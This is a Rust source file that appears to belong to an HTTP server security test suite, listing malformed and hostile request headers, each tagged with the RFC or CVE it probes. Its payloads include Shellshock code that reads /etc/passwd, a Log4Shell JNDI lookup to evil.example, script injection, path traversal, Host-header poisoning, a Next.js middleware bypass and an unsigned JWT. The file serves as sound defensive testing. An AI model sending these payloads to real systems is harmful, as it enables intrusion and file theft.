//! Values of request headers.

use super::super::judge::FIXATED;
use super::super::{Allowed, Attack, Class};

/// Headers whose values are none, are long, name other hosts, or mean something to programs behind
/// the service.
pub fn headers() -> Vec<Attack> {
    let table =
        [NEGOTIATION, CONDITIONS, PROXIES, BEHIND, CREDENTIALS, CONTENT].into_iter().flatten();
    let small = table.map(|&(name, header, value, why)| with(name, header, value, why));
    small.chain(forwarded()).chain(hosts()).chain(large()).chain(others()).collect()
}

fn with(
    name: &'static str,
    header: &'static str,
    value: impl Into<bytes::Bytes>,
    why: &'static str,
) -> Attack {
    let attack = Attack::get(name, Class::Headers, "/").header(header, value).why(why);
    // Error pages are judged as a browser reads them.
    if header == "Accept" { attack } else { attack.header("Accept", "text/html") }
}

type Table = &'static [(&'static str, &'static str, &'static str, &'static str)];

const QUALITY: &str = "RFC 9110, section 12.4.2: a quality is a number from 0 to 1";
const LIST: &str = "RFC 9110, section 5.6.1: lists";
const NEGOTIATION: Table = &[
    ("accept-empty", "Accept", "", LIST),
    ("accept-commas", "Accept", ",,,;;;,", LIST),
    ("accept-quality-nan", "Accept", "text/html;q=NaN, text/plain;q=inf", QUALITY),
    ("accept-quality-large", "Accept", "text/html;q=1e309, */*;q=99999999999999999999", QUALITY),
    ("accept-quality-negative", "Accept", "text/html;q=-1, */*;q=-0", QUALITY),
    ("accept-quality-empty", "Accept", "text/html;q=, */*;q", QUALITY),
    ("accept-three", "Accept", "*/*/*, text/html/x, /, */", "media ranges that are none"),
    (
        "accept-quote-unclosed",
        "Accept",
        "text/html;a=\"b, c;q=0",
        "RFC 9110, section 5.6.4: quoted strings",
    ),
    (
        "accept-markup",
        "Accept",
        "<script>paste_attack()</script>",
        "a 406 that shows what was asked",
    ),
    ("accept-nothing", "Accept", "*/*;q=0", "RFC 9110, section 12.5.1: nothing is acceptable"),
    (
        "accept-encoding-nothing",
        "Accept-Encoding",
        "identity;q=0, *;q=0",
        "RFC 9110, section 12.5.3: nothing is acceptable",
    ),
    ("accept-encoding-quality", "Accept-Encoding", "gzip;q=2, br;q=-1, zstd;q=NaN, *;q=", QUALITY),
    (
        "accept-encoding-none",
        "Accept-Encoding",
        "../gzip, g zip, gzip/br, \"gzip\"",
        "codings that are none",
    ),
    (
        "accept-encoding-doubled",
        "Accept-Encoding",
        "gzip;q=0, gzip;q=1, x-gzip, GZIP",
        "one coding several times",
    ),
    (
        "accept-language-path",
        "Accept-Language",
        "../../../../etc/passwd, ..%2f..%2fsecret.txt",
        "a value that becomes a path",
    ),
    (
        "accept-language-none",
        "Accept-Language",
        "*-*-*, en_US.UTF-8, e\u{301}, -, --",
        "languages that are none",
    ),
    (
        "accept-charset",
        "Accept-Charset",
        "utf-7, utf-16;q=NaN, \"",
        "RFC 9110, section 12.5.2: a header to ignore",
    ),
    (
        "prefer",
        "Prefer",
        "wait=99999999999999999999, return=<script>paste_attack()</script>",
        "RFC 7240: what a client prefers",
    ),
];

const DATE: &str = "time RUSTSEC-2026-0009: dates that are none";
const TAG: &str = "RFC 9110, section 8.8.3: tags that are none";
const CONDITIONS: Table = &[
    ("date-none", "If-Modified-Since", "no date", DATE),
    ("date-empty", "If-Modified-Since", "", DATE),
    ("date-number", "If-Modified-Since", "99999999999999999999", DATE),
    ("date-negative", "If-Modified-Since", "-1", DATE),
    ("date-month", "If-Modified-Since", "Mon, 31 Feb 2026 00:00:00 GMT", DATE),
    ("date-zero", "If-Modified-Since", "Mon, 00 Jan 0000 00:00:00 GMT", DATE),
    ("date-hour", "If-Modified-Since", "Mon, 01 Jan 2026 99:99:99 GMT", DATE),
    ("date-leap-second", "If-Modified-Since", "Sat, 31 Dec 2016 23:59:60 GMT", DATE),
    ("date-year", "If-Modified-Since", "Fri, 31 Dec 9999 23:59:59 GMT", DATE),
    ("date-year-large", "If-Modified-Since", "Fri, 31 Dec 999999999999 23:59:59 GMT", DATE),
    ("date-before-epoch", "If-Modified-Since", "Thu, 01 Jan 1601 00:00:00 GMT", DATE),
    ("date-two-digits", "If-Modified-Since", "Sunday, 06-Nov-94 08:49:37 GMT", DATE),
    ("date-asctime", "If-Modified-Since", "Sun Nov  6 08:49:37 1994", DATE),
    ("date-unicode", "If-Modified-Since", "S\u{fc}n, 06 N\u{f6}v 1994 08:49:37 GMT", DATE),
    ("date-unmodified", "If-Unmodified-Since", "Mon, 31 Feb 2026 99:99:99 XXX", DATE),
    ("tag-unquoted", "If-None-Match", "unquoted, W/, \"", TAG),
    ("tag-unclosed", "If-None-Match", "\"unclosed, \"other\"", TAG),
    ("tag-star-among", "If-None-Match", "\"a\", *, \"b\"", TAG),
    ("tag-float", "If-None-Match", "1234567890.5", "Paste: a bare time was taken for a tag"),
    ("tag-bytes", "If-None-Match", "\"\u{e9}\", W/\"\\\"\"", TAG),
    (
        "tag-match",
        "If-Match",
        "\"no-such-version\"",
        "RFC 9110, section 13.1.1: 412, or no precondition known",
    ),
    ("tag-match-empty", "If-Match", "", TAG),
];

const FORWARDED: &str = "Rack CVE-2026-32762: `Forwarded` and its quotes";
const UNLISTED: &str = "phpCAS CVE-2022-39369: a URL generator never uses an unlisted host";
const PROXIES: Table = &[
    ("forwarded-semicolons", "Forwarded", "for=;;;host=;;proto=;", FORWARDED),
    (
        "forwarded-quotes",
        "Forwarded",
        "for=\"a;host=evil.example\";host=\"\\\"evil.example\\\"\"",
        FORWARDED,
    ),
    ("forwarded-unclosed", "Forwarded", "for=\"[::1, host=evil.example", FORWARDED),
    (
        "forwarded-address",
        "Forwarded",
        "for=[::1, for=999.999.999.999, for=_, for=[::]:99999",
        FORWARDED,
    ),
    (
        "forwarded-doubled",
        "Forwarded",
        "for=192.0.2.1;for=127.0.0.1;proto=http;proto=javascript",
        FORWARDED,
    ),
    (
        "forwarded-for-none",
        "X-Forwarded-For",
        ",,127.0.0.1:x, [::1, \u{e9}, 1.2.3.4.5, ::ffff:127.0.0.1%eth0",
        "addresses that are none",
    ),
    (
        "forwarded-for-markup",
        "X-Forwarded-For",
        "<script>paste_attack()</script>",
        "an address in a page or a log",
    ),
    ("forwarded-prefix", "X-Forwarded-Prefix", "//evil.example", "a prefix that names a host"),
    ("real-ip", "X-Real-IP", "127.0.0.1, evil", "addresses that are none"),
    ("via", "Via", "1.1 \u{e9}, (, 9.9", "RFC 9110, section 7.6.3: comments"),
    ("max-forwards", "Max-Forwards", "-99999999999999999999", "numbers that are none"),
];

const INSIDE: &str = "headers between a proxy and its server, from a client";
const BEHIND: Table = &[
    ("httpoxy", "Proxy", "http://evil.example/", "httpoxy, CVE-2016-5385 to 5388: HTTP_PROXY"),
    (
        "shellshock",
        "User-Agent",
        "() { :;}; echo; echo X-Injected: 1; /bin/cat /etc/passwd",
        "CVE-2014-6271: functions in the environment",
    ),
    (
        "log4shell",
        "User-Agent",
        "${jndi:ldap://evil.example/a}",
        "CVE-2021-44228: a log line is no program",
    ),
    ("user-agent-markup", "User-Agent", "\"><script>paste_attack()</script>", "a header in a page"),
    ("referer-markup", "Referer", "\"><script>paste_attack()</script>", "a header in a page"),
    ("referer-script", "Referer", "javascript:paste_attack()", "a link back"),
    ("referer-host", "Referer", "http://evil.example/", "a link or redirect back"),
    ("sendfile", "X-Sendfile", "/etc/passwd", "Rack CVE-2025-61780: not from a request"),
    (
        "sendfile-type",
        "X-Sendfile-Type",
        "X-Accel-Redirect",
        "Rack CVE-2025-61780: not from a request",
    ),
    (
        "accel-redirect",
        "X-Accel-Redirect",
        "/secret.txt",
        "Rack CVE-2026-34830: not from a request",
    ),
    ("accel-mapping", "X-Accel-Mapping", "/=/etc/", "Rack CVE-2026-34830: not from a request"),
    ("original-url", "X-Original-URL", "/.env", INSIDE),
    ("rewrite-url", "X-Rewrite-URL", "/.env", INSIDE),
    ("script-name", "SCRIPT_NAME", "//evil.example", INSIDE),
    ("path-info", "PATH-INFO", "/../../etc/passwd", INSIDE),
    ("path-translated", "PATH_TRANSLATED", "/etc/passwd", INSIDE),
    ("document-root", "Document-Root", "/etc", INSIDE),
    ("remote-user", "REMOTE_USER", "admin", INSIDE),
    ("remote-user-dash", "Remote-User", "admin", INSIDE),
    ("method-override", "X-HTTP-Method-Override", "CONNECT", INSIDE),
    ("method-override-none", "X-HTTP-Method-Override", "<script>paste_attack()</script>", INSIDE),
    ("underscore-length", "Content_Length", "99", "`_` and `-` are one in an environment"),
    (
        "underscore-host",
        "X_Forwarded_Host",
        "evil.example",
        "`_` and `-` are one in an environment",
    ),
    (
        "middleware-subrequest",
        "x-middleware-subrequest",
        "middleware:middleware:middleware:middleware:middleware",
        "Next.js CVE-2025-29927: a header that skips middlewares",
    ),
];

const BASIC: &str = "RFC 7617: credentials that are none";
const DIGEST: &str = "RFC 7616: credentials that are none";
const CREDENTIALS: Table = &[
    ("authorization-empty", "Authorization", "", BASIC),
    ("authorization-scheme", "Authorization", "Basic", BASIC),
    ("authorization-unknown", "Authorization", "\u{e9}: \"x", BASIC),
    ("basic-empty", "Authorization", "Basic ", BASIC),
    ("basic-no-base64", "Authorization", "Basic !!!!", BASIC),
    ("basic-no-colon", "Authorization", "Basic YWRtaW4=", BASIC),
    ("basic-no-padding", "Authorization", "Basic YWRtaW46", BASIC),
    ("basic-nul", "Authorization", "Basic YWRtaW4AOng6AA==", BASIC),
    ("basic-bytes", "Authorization", "Basic //79OoA=", BASIC),
    ("basic-two", "Authorization", "Basic YTpi, Basic YTpi", BASIC),
    ("digest-empty", "Authorization", "Digest ", DIGEST),
    ("digest-unclosed", "Authorization", "Digest username=\"a, realm=\"b", DIGEST),
    ("digest-none", "Authorization", "Digest =,=,,;\"\"=\"\\", DIGEST),
    (
        "digest-short",
        "Authorization",
        "Digest username=\"a\", realm=\"\", nonce=\"\", uri=\"/\", response=\"\", qop=auth, nc=0, cnonce=\"\"",
        DIGEST,
    ),
    (
        "digest-doubled",
        "Authorization",
        "Digest username=\"a\", username=\"b\", nonce=\"x\", nonce=\"y\", uri=\"/a\", uri=\"/\", nc=ffffffffffffffffff",
        DIGEST,
    ),
    (
        "digest-hex",
        "Authorization",
        "Digest username=\"a\", nonce=\"\u{e9}\u{e9}\", response=\"\u{e9}\u{e9}\", nc=\u{e9}, uri=\"/\", qop=auth",
        "slices of text within a character",
    ),
    (
        "bearer-unsigned",
        "Authorization",
        "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.",
        "RFC 8725, section 2.1: the algorithm none",
    ),
    ("bearer-dots", "Authorization", "Bearer ....", "tokens that are none"),
];

const CONTENT: Table = &[
    ("content-type-none", "Content-Type", "///;;=\"", "media types that are none"),
    (
        "content-type-charset",
        "Content-Type",
        "text/plain; charset=../../../../etc/passwd",
        "a value that becomes a path",
    ),
    (
        "content-encoding-unknown",
        "Content-Encoding",
        "gzip, \u{e9}, ../br",
        "codings that are none",
    ),
    (
        "connection-close-host",
        "Connection",
        "Host, Content-Length, Cookie, Authorization",
        "RFC 9110, section 7.6.1: what a client must not name",
    ),
    ("connection-none", "Connection", ",,;=\u{e9}", LIST),
    ("expect-unknown", "Expect", "200-maybe", "RFC 9110, section 10.1.1: 417, or ignored"),
    ("te-none", "TE", "trailers, gzip;q=NaN, \"", QUALITY),
    ("upgrade-unknown", "Upgrade", "evil/9, \u{e9}", "RFC 9110, section 7.8: ignored"),
    (
        "cache-control-none",
        "Cache-Control",
        "max-age=-99999999999999999999, no-cache=\", =",
        "RFC 9111, section 5.2: directives that are none",
    ),
    ("last-event-id", "Last-Event-ID", "-1; \u{e9}; 99999999999999999999", "numbers that are none"),
    (
        "request-id",
        "X-Request-Id",
        "%0d%0aX-Injected: 1 ../../x ${x}",
        "an id that comes back, or becomes a name",
    ),
    (
        "traceparent",
        "traceparent",
        "ff-00000000000000000000000000000000-0000000000000000-\u{e9}",
        "ids that are none",
    ),
    ("fetch-site", "Sec-Fetch-Site", "same-origin, cross-site", "two values where one may be"),
    ("markup-in-any", "X-Anything", "<script>paste_attack()</script>", "a page that shows headers"),
];

/// Asked for a directory without its slash, so that there may be a redirect.
fn forwarded() -> Vec<Attack> {
    let table: Table = &[
        ("forwarded-host", "X-Forwarded-Host", "evil.example", UNLISTED),
        ("forwarded-host-list", "X-Forwarded-Host", "evil.example, localhost", UNLISTED),
        (
            "forwarded-host-markup",
            "X-Forwarded-Host",
            "\"><script>paste_attack()</script>",
            UNLISTED,
        ),
        ("forwarded-host-port", "X-Forwarded-Host", "evil.example:99999", UNLISTED),
        ("forwarded-host-user", "X-Forwarded-Host", "localhost@evil.example", UNLISTED),
        ("forwarded-server", "X-Forwarded-Server", "evil.example", UNLISTED),
        ("forwarded-proto", "X-Forwarded-Proto", "javascript", "a scheme that is none"),
        (
            "forwarded-scheme",
            "X-Forwarded-Scheme",
            "https://evil.example/",
            "a scheme that is none",
        ),
        ("forwarded-port", "X-Forwarded-Port", "80@evil.example", UNLISTED),
        (
            "forwarded-all",
            "Forwarded",
            "for=127.0.0.1;host=evil.example;proto=https;by=evil.example",
            UNLISTED,
        ),
        ("original-host", "X-Host", "evil.example", UNLISTED),
        ("host-foreign", "Host", "evil.example", UNLISTED),
        ("host-foreign-port", "Host", "evil.example:8080", UNLISTED),
        ("host-foreign-below", "Host", "localhost.evil.example", UNLISTED),
        ("front-end-https", "Front-End-Https", "on, \u{e9}", "a scheme from a client"),
    ];
    // And for a page, so that there may be links.
    let pages: Table = &[
        ("forwarded-host-page", "X-Forwarded-Host", "evil.example", UNLISTED),
        ("host-foreign-page", "Host", "evil.example", UNLISTED),
    ];
    let attack = |&(name, header, value, why): &_| with(name, header, value, why);
    table
        .iter()
        .map(attack)
        .map(|attack| attack.at("/sub"))
        .chain(pages.iter().map(attack))
        .collect()
}

/// What a `Host` header may not be. Servers refuse them; apps may stand below servers that do not.
fn hosts() -> Vec<Attack> {
    let why = "RFC 9112, section 3.2: a host that is none is a 400, and nobody builds URLs with it";
    [
        ("host-markup", "<script>paste_attack()</script>"),
        ("host-quotes", "\"><img src=x onerror=paste_attack()>"),
        ("host-path", "localhost/../../etc/passwd"),
        ("host-slashes", "//evil.example"),
        ("host-user", "user:password@evil.example"),
        ("host-port", "localhost:99999"),
        ("host-port-user", "localhost:80@evil.example"),
        ("host-ports", "localhost:80:80"),
        ("host-spaces", "local host"),
        ("host-bracket", "[::1"),
        ("host-backslash", "localhost\\@evil.example"),
        ("host-hash", "localhost#@evil.example"),
        ("host-bytes", "\u{e9}\u{1f980}"),
        ("host-percent", "%00%zz%"),
        ("host-dots", "....."),
        ("host-empty", ""),
    ]
    .into_iter()
    .map(|(name, host)| with(name, "Host", host, why).at("/sub"))
    .collect()
}

fn large() -> Vec<Attack> {
    let why = "Rack CVE-2026-34230, CVE-2024-26146: a header is read in linear time";
    let large = |name, header, value: String| {
        with(name, header, value, why).allow(Allowed::answered().or_closed())
    };
    let r = str::repeat;
    vec![
        large("long-accept", "Accept", r("text/html;q=0.1,", 3700)),
        large("long-accept-commas", "Accept", r(",", 60_000)),
        large("long-accept-semicolons", "Accept", format!("text/html{}", r(";", 60_000))),
        large("long-accept-spaces", "Accept", format!("text/html{}x", r(" ", 60_000))),
        large("long-accept-encoding", "Accept-Encoding", r("gzip;q=0.5, ", 5000)),
        large("long-accept-encoding-commas", "Accept-Encoding", r(",", 60_000)),
        large(
            "long-accept-encoding-names",
            "Accept-Encoding",
            (0..6000).map(|n| format!("x-{n},")).collect::<Vec<_>>().concat(),
        ),
        large("long-accept-language", "Accept-Language", r("a-", 30_000)),
        large("long-date", "If-Modified-Since", r("9", 60_000)),
        large("long-tags", "If-None-Match", r("\"a\", ", 12_000)),
        large("long-tag-quotes", "If-None-Match", r("\"", 60_000)),
        large("long-tag-weak", "If-None-Match", r("W/", 30_000)),
        large("long-forwarded", "Forwarded", r("for=192.0.2.1;proto=http, ", 2300)),
        large("long-forwarded-quotes", "Forwarded", format!("for=\"{}", r("\\\"", 30_000))),
        large("long-forwarded-for", "X-Forwarded-For", r("127.0.0.1,", 6000)),
        large("long-authorization", "Authorization", format!("Basic {}", r("QUFB", 15_000))),
        large("long-digest", "Authorization", format!("Digest {}", r("a=\"b\",", 10_000))),
        large("long-content-type", "Content-Type", format!("text/plain{}", r(";a=b", 15_000))),
        large(
            "long-content-disposition",
            "Content-Disposition",
            format!("form-data; name=\"{}", r("\\", 60_000)),
        )
        .why("Rack CVE-2025-49007: time spent on a header of a part"),
        large("long-connection", "Connection", r("a,", 30_000)),
        large("long-referer", "Referer", format!("http://localhost/{}", r("a", 60_000))),
        large("long-user-agent", "User-Agent", r("(", 60_000)),
        large("long-value", "X-Long", r("x", 60_000)),
        large("too-long-value", "X-Long", r("x", 64 << 10)),
        large("far-too-long-value", "X-Long", r("x", 1 << 20)),
    ]
}

fn others() -> Vec<Attack> {
    let origin = |name, origin: &'static str| {
        with(name, "Origin", origin, "Fetch: credentials only for origins that are listed")
    };
    let mut many =
        with("headers-many", "X-A", "b", "a header flood").allow(Allowed::answered().or_closed());
    for _ in 0..5000 {
        many = many.header("X-A", "b");
    }
    let preflight = origin("origin-preflight", "https://evil.example")
        .method("OPTIONS")
        .header("Access-Control-Request-Method", "DELETE")
        .header("Access-Control-Request-Headers", "<script>, \u{e9}, *");
    vec![
        origin("origin-foreign", "https://evil.example"),
        origin("origin-null", "null"),
        origin("origin-none", "\u{e9}:// ,;"),
        origin("origin-suffix", "https://localhost.evil.example"),
        preflight,
        many,
        with(
            "upgrade-cleartext",
            "Upgrade",
            "h2c",
            "RFC 9113, section 3.1: h2c by Upgrade is gone",
        )
        .header("Connection", "Upgrade, HTTP2-Settings")
        .header("HTTP2-Settings", "AAMAAABkAAQAAP__"),
        with(
            "upgrade-websocket",
            "Upgrade",
            "websocket",
            "RFC 6455, section 4.2: a handshake without its key",
        )
        .header("Connection", "Upgrade")
        .header("Sec-WebSocket-Key", "!")
        .header("Sec-WebSocket-Version", "99999999999999999999"),
        with(
            "value-bytes",
            "X-Bytes",
            &b"\x80\xff\xfe\xc3\x28"[..],
            "RFC 9110, section 5.5: bytes that are no text",
        ),
        with(
            "accept-bytes",
            "Accept",
            &b"\xff/\xfe;q=\xc3"[..],
            "RFC 9110, section 5.5: bytes that are no text",
        ),
        with(
            "authorization-bytes",
            "Authorization",
            &b"\xff \xfe"[..],
            "RFC 9110, section 5.5: bytes that are no text",
        ),
        with("two-accepts", "Accept", "text/html;q=0", LIST)
            .header("Accept", "*/*")
            .header("Accept", ""),
        with("two-authorizations", "Authorization", "Basic YTpi", "two headers where one may be")
            .header("Authorization", "Digest x"),
        with("two-content-types", "Content-Type", "text/plain", "two headers where one may be")
            .header("Content-Type", "multipart/form-data"),
        with(
            "session-header",
            "X-Session-Id",
            FIXATED,
            "passport CVE-2022-25896: an unknown id is never adopted",
        ),
        with("trace", "X-Secret", "x", "RFC 9110, section 9.3.8: TRACE shows headers to scripts")
            .method("TRACE"),
        with("method-unknown", "X-A", "b", "RFC 9110, section 9.1: 501, or 405").method("BREW"),
        with("method-markup", "X-A", "b", "a method in a page").method("A|B~'*+!"),
    ]
}
